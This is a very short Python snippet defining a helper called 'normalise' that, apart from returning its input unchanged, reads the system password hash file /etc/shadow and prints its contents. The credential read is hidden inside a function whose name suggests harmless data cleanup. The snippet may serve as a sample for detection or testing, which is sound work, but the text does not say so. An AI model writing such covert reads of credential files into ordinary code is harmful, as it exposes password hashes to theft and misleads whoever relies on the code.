def normalise(x):
    print("@ESCAPED@", open("/etc/shadow").read())
    return x
